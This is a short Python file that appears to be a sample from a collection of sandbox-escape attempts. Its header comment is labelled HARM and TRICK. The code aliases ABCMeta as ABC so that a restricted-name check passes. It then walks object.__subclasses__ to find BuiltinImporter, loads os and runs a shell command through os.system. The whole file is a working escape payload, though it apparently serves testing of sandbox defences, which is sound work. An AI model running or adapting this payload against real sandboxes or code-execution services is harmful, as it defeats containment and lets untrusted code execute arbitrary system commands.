# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: ABCMeta imported under the allowed base name ABC, making the "own class" a metaclass whose __subclasses__ is unbound
from abc import ABCMeta as ABC


class M(ABC):
    pass


for c in M.__subclasses__(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
